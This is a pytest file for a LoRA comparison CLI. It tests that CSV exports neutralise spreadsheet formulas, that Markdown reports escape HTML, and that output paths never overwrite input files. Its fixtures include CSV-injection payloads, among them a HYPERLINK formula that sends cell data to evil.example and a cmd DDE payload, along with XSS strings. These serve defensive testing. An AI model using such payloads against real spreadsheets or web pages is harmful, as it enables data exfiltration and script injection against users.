"""What the tool writes is safe where it lands: CSV cells never start a spreadsheet formula, report.md shows typed
HTML as text, and ``audit --out``, ``export --out`` and ``compare --out`` never land on the user's files."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parent))
sys.path.insert(0, str(Path(__file__).parent / "votes"))

from comparison_fixture import make_comparison  # noqa: E402
from conftest import write_run  # noqa: E402
from test_bisect_cli import BAD, GOOD  # noqa: E402

from lora_audit.cli import main  # noqa: E402
from lora_audit.errors import EvidenceError  # noqa: E402
from lora_audit.format import csv_cell  # noqa: E402
from lora_audit.votes.store import Vote, VoteStore  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def _one_error(r) -> str:
    assert r.exit_code == 2, (r.output, r.exception)
    line, = r.stderr.strip().splitlines()
    assert line.startswith("error: ") and "Traceback" not in r.output
    return line


# --- CSV ----------------------------------------------------------------------------------------------------------

def test_csv_cell_rules():
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    assert csv_cell(-0.5) == -0.5 and csv_cell(-3) == -3  # numbers stay numbers
    assert csv_cell("-0.5") == "'-0.5"  # text that looks like a number is still text
    assert csv_cell(None) == "" and csv_cell("a knight") == "a knight" and csv_cell(True) == "True"


def test_export_csv_neutralises_every_text_cell(tmp_path):
    models = ["base", FORMULAS[0], FORMULAS[3]]
    folder = make_comparison(tmp_path / "cmp", models=models, prompts=FORMULAS[1:3], seeds=[1])
    data = json.loads((folder / "comparison.json").read_text())
    for c in data["comparisons"]:
        c["models"][1]["lora_strength"] = -0.5
        c["models"][1]["metrics"] = {"=cmd": 1.0, "sharpness": -2.25}
        c["notes"] = "@notes"
    (folder / "comparison.json").write_text(json.dumps(data))
    store = VoteStore(folder)
    for c in data["comparisons"]:
        store.add(Vote(c["comparison_id"], c["prompt"], c["seed"], "best-of", tuple(models), models[1], "=voter",
                       notes="-my note"))
    r = CliRunner().invoke(main, ["export", str(folder), "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    header, body = rows[0], rows[1:]
    assert "'=cmd" in header
    cells = [v for row in rows for v in row]
    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r")) or
                (v.startswith("-") and not _number(v))]
    by = [dict(zip(header, row)) for row in body]
    assert {row["prompt"] for row in by} == {"'" + p for p in FORMULAS[1:3]}
    assert {row["model_name"] for row in by} == {"base", "'" + FORMULAS[0], "'" + FORMULAS[3]}
    strengths = {row["lora_strength"] for row in by if row["model_name"] == "'" + FORMULAS[0]}
    assert strengths == {"-0.5"}  # a negative number, written as a number
    assert {row["sharpness"] for row in by if row["model_name"] == "'" + FORMULAS[0]} == {"-2.25"}
    assert all("-my note" in row["notes"] and "@notes" in row["notes"] and row["notes"].startswith("'")
               for row in by)


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_compare_csv_and_report_escape_typed_text(tmp_path):
    pytest.importorskip("PIL")
    pytest.importorskip("numpy")
    from types import SimpleNamespace

    from lora_audit.compare.export import write_csv, write_report

    rec = {"comparison_id": "cmp-001-1", "prompt": FORMULAS[0], "seed": 1, "model_name": "@lora <b>x</b> @-1",
           "base_model": "/m", "lora": "-evil.safetensors", "lora_strength": -1.0, "generation_time_s": 0.5,
           "winner": "", "notes": "=1", "completed_at": "2026", "image": "images/a.png", "distance_to_base": 3.0,
           "metrics": {"sharpness": -1.5}}
    write_csv(SimpleNamespace(records=[rec]), tmp_path / "c.csv")
    with open(tmp_path / "c.csv", newline="") as fh:
        row, = csv.DictReader(fh)
    assert row["prompt"] == "'" + FORMULAS[0] and row["model_name"] == "'@lora <b>x</b> @-1"
    assert row["lora"] == "'-evil.safetensors" and row["notes"] == "'=1"
    assert row["lora_strength"] == "-1.0" and row["sharpness"] == "-1.5"

    timing = {"images": 1, "mean_s": 0.5, "std_s": 0.0, "min_s": 0.5, "max_s": 0.5, "images_per_s": 2.0}
    data = {"metadata": {"base_model": {"path": "/m/<script>alert(1)</script>", "arch": "sd15",
                                        "pipeline": "StableDiffusionPipeline"},
                         "settings": {"steps": 2, "cfg": 7.0, "size": "64x64", "scheduler": "<i>s</i>",
                                      "seeds": [1], "prompts": ["<img src=x onerror=alert(1)>\n# heading | x"]},
                         "grids": ["grid-p01.png"]},
            "findings": ["NOT LOADED: <b>lora</b>: none of its 3 modules matched"],
            "statistics": {"furthest_from_base": "<u>lora</u>", "models": [
                {"model_name": "<b>lora</b> | x", "lora_strength": -1.0, "distance_to_base": {"mean": 1.0, "max": 2.0},
                 "timing": timing, "metrics": {"png_bytes": 1.0, "jpeg_bytes": 1.0, "palette": 1.0, "grid_k": 1.0,
                                               "grid_fit": 1.0, "sharpness": 1.0}}]}}
    write_report(data, tmp_path / "report.md")
    text = (tmp_path / "report.md").read_text()
    for raw in ("<script", "<img", "<b>", "<u>", "<i>", "\n# heading"):
        assert raw not in text, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "&lt;img src=x onerror=alert(1)&gt; # heading \\| x" \
        in text
    assert "| &lt;b&gt;lora&lt;/b&gt; \\| x | -1.00 |" in text  # one table cell, the number as it is


# --- --out --------------------------------------------------------------------------------------------------------

@pytest.fixture
def audit_inputs(tmp_path):
    good = write_run(tmp_path / "runs", "good", GOOD, "good")
    bad = write_run(tmp_path / "runs", "bad", BAD, "bad")
    cmp = make_comparison(tmp_path / "cmp")
    (cmp / "report.md").write_text("# the comparison's own report\n")
    return good, bad, cmp


@pytest.mark.parametrize("where", ["evidence file", "inside a run folder", "inside the folder of runs",
                                   "a folder", "comparison report", "comparison json"])
def test_audit_out_never_lands_on_the_evidence(tmp_path, audit_inputs, where):
    good, bad, cmp = audit_inputs
    out = {"evidence file": good / "config.toml", "inside a run folder": bad / "report.md",
           "inside the folder of runs": tmp_path / "runs" / "report.md", "a folder": tmp_path / "cmp",
           "comparison report": cmp / "report.md", "comparison json": cmp / "comparison.json"}[where]
    runs = [str(tmp_path / "runs")] if where == "inside the folder of runs" else [str(good), str(bad)]
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    r = CliRunner().invoke(main, ["audit", *runs, "--compare", str(cmp), "--out", str(out)])
    if where == "a folder":  # click's own check of the option (a usage error, exit 2)
        assert r.exit_code == 2 and "is a directory" in r.stderr and "Traceback" not in r.output
    else:
        line = _one_error(r)
        assert "--out" in line and str(out) in line
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


def test_audit_out_elsewhere_is_written(tmp_path, audit_inputs):
    good, bad, cmp = audit_inputs
    out = tmp_path / "reports" / "audit.md"
    r = CliRunner().invoke(main, ["audit", str(good), str(bad), "--compare", str(cmp), "--out", str(out)])
    assert r.exit_code == 0, r.output
    assert out.read_text().startswith("#")
    r = CliRunner().invoke(main, ["audit", str(good), str(bad), "--out", str(out)])  # its own report: rewritten
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize("name", ["comparison.json", "comparison.csv", "report.md", "votes.sqlite",
                                  "votes.sqlite-wal", "images/p01/base/seed1.png", "grid-p01.png", "images"])
def test_export_out_never_lands_on_the_comparisons_files(tmp_path, name):
    folder = make_comparison(tmp_path / "cmp")
    VoteStore(folder)
    (folder / "report.md").write_text("# report\n")
    (folder / "grid-p01.png").write_bytes(b"png")
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    r = CliRunner().invoke(main, ["export", str(folder), "--format", "csv", "--out", str(folder / name)])
    if name == "images":  # click's own check of the option (a usage error, exit 2)
        assert r.exit_code == 2 and "is a directory" in r.stderr and "Traceback" not in r.output
    else:
        assert "--out" in _one_error(r)
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before


def test_export_out_beside_the_comparison_is_written_and_rewritten(tmp_path):
    folder = make_comparison(tmp_path / "cmp")
    for _ in range(2):
        r = CliRunner().invoke(main, ["export", str(folder), "--format", "json", "--out", str(folder / "export.json")])
        assert r.exit_code == 0, r.output
    assert json.loads((folder / "export.json").read_text())["metadata"]["tool"] == "lora-audit export"


def test_compare_out_refuses_a_foreign_folder_and_input_folders(tmp_path):
    from lora_audit.compare.safety import check_out_folder

    base = tmp_path / "model"
    (base / "unet").mkdir(parents=True)
    (base / "model_index.json").write_text("{}")
    (base / "unet" / "diffusion_pytorch_model.safetensors").write_bytes(b"x")
    lora = tmp_path / "loras" / "a.safetensors"
    lora.parent.mkdir()
    lora.write_bytes(b"x")
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / "holiday.jpg").write_bytes(b"jpg")
    cases = {photos: "other files", base / "cmp": "inside the input folder", base: "inside the input folder",
             lora.parent: "holds the input"}
    for out, what in cases.items():
        before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
        r = CliRunner().invoke(main, ["compare", "--base", str(base), "--lora", str(lora), "--prompt", "a",
                                      "--out", str(out), "--steps", "1", "--quiet"])
        line = _one_error(r)
        assert what in line, line
        assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before
    r = CliRunner().invoke(main, ["compare", "--base", str(base), "--prompt", "a", "--out", str(lora)])
    assert r.exit_code == 2 and "Traceback" not in r.output  # a file: click refuses it
    # absent, empty, or a previous (or interrupted) comparison of this tool: accepted
    empty = tmp_path / "empty"
    empty.mkdir()
    previous = make_comparison(tmp_path / "previous")
    interrupted = tmp_path / "interrupted"
    (interrupted / "images").mkdir(parents=True)
    (interrupted / "journal.jsonl").write_text("")
    for out in (tmp_path / "new", empty, previous, interrupted):
        check_out_folder(out, [base, lora])
    with pytest.raises(EvidenceError):
        check_out_folder(photos, [base, lora])
